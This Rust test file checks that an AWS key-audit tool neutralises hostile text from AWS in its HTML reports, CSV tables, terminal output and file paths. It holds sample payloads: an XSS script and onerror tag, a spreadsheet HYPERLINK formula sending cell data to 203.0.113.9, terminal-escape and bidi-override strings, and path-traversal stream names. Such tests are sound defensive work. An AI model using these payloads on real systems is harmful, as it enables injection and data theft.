//! Text that comes from AWS is somebody else's: it does nothing in a browser, a spreadsheet, a terminal or a path.

use crate::aws::world::IRELAND;
use crate::aws::{Aws, World};
use crate::program::{Outcome, run};
use serde_json::json;

const MARKUP: &str = "<script>alert('kw')</script><img src=x onerror=alert(1)>";
const FORMULA: &str = "=HYPERLINK(\"http://203.0.113.9/?\"&A1,\"open\")";
const ESCAPES: &str = "calm\u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}txt.exe\u{200b}\u{0}";

/// An account whose names and texts are all three, wherever AWS lets somebody write freely, and beyond.
fn hostile() -> World {
    let mut world = World::of_one_stream();
    for (n, text) in [MARKUP, FORMULA, ESCAPES].iter().enumerate() {
        let key = world.add_key(IRELAND, text);
        world.key(&key).tags.insert((*text).to_owned(), (*text).to_owned());
        world.key(&key).metadata["Description"] = json!(text);
        world
            .key(&key)
            .policies
            .insert("default".to_owned(), format!("{{\"Version\":\"{n}\",\"Id\":{}}}", json!(text)));
        let stream = world.add_stream(IRELAND, &format!("hostile-{n}"));
        stream.encrypt(&key);
        stream.tags.insert("owner".to_owned(), (*text).to_owned());
        stream.tags.insert((*text).to_owned(), "x".to_owned());
        stream.description["DeliveryStreamEncryptionConfiguration"]["FailureDescription"] =
            json!({ "Type": text, "Details": text });
        world.add_event(IRELAND, "PutKeyPolicy", 5.0, text);
        let event = world.place(IRELAND).events.last_mut().expect("just added");
        event["Username"] = json!(text);
    }
    world.add_stream(IRELAND, "../../../../outside").encrypt("arn:aws:kms:eu-west-1:111122223333:key/../../outside");
    world.add_stream(IRELAND, MARKUP);
    world.add_stream(IRELAND, ESCAPES);
    world.add_stream(IRELAND, "CON.txt/nul\n");
    world.trail(IRELAND).description["Name"] = json!(MARKUP);
    world.trail(IRELAND).status["LatestDeliveryError"] = json!(ESCAPES);
    world
}

fn ran() -> Outcome {
    let aws = Aws::start(hostile());
    let outcome = run(&aws).args(["--output", "packs"]).done();
    assert!(outcome.code == 0 || outcome.code == 3, "{}", outcome.stderr);
    outcome
}

#[test]
fn markup_is_text_in_the_html_report() {
    let outcome = ran();
    let page = outcome.pack().text("data/report.html");
    assert!(page.contains("&lt;script"), "the text is shown");
    for tag in ["<script>alert", "<img src=x", "onerror=alert(1)>"] {
        assert!(!page.contains(tag), "{tag} is markup");
    }
}

#[test]
fn no_cell_is_a_formula() {
    let outcome = ran();
    let pack = outcome.pack();
    let mut cells = 0;
    for file in pack.files().iter().filter(|f| f.starts_with("data/tables/")) {
        let text = pack.text(file);
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
        for row in reader.records() {
            for cell in &row.expect("a row") {
                cells += 1;
                let first = cell.trim_start_matches([' ', '\u{feff}', '\u{200b}', '\0']).chars().next();
                assert!(!matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')), "{file}: {cell:?}");
            }
        }
    }
    assert!(cells > 100);
}

#[test]
fn nothing_moves_the_terminal() {
    let outcome = ran();
    let human = {
        let aws = Aws::start(hostile());
        let url = aws.url();
        let region = ["run", "--region", IRELAND, "--endpoint-url", &url, "--no-rate-limit", "--max-attempts", "1"];
        crate::program::keywitness(region).done()
    };
    for text in [&outcome.stdout, &outcome.stderr, &human.stdout, &human.stderr] {
        let odd = text
            .chars()
            .find(|c| (c.is_control() && *c != '\n') || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'));
        assert_eq!(odd, None, "{text:?}");
    }
}

#[test]
fn no_name_from_aws_becomes_a_path() {
    let outcome = ran();
    let pack = outcome.pack();
    for file in pack.files() {
        let fine = |c: char| c.is_ascii_alphanumeric() || "._-/".contains(c);
        assert!(file.chars().all(fine) && !file.contains(".."), "{file}");
        assert!(!file.contains("outside") && !file.contains("hostile"), "{file}");
    }
    let beside: Vec<_> = std::fs::read_dir(outcome.work.join("packs")).expect("the output").collect();
    assert_eq!(beside.len(), 1, "{beside:?}");
}

#[test]
fn a_hostile_pack_verifies_like_any_other() {
    let outcome = ran();
    let pack = outcome.pack();
    pack.verify(["--expect-root", &pack.root]).expect(0);
}
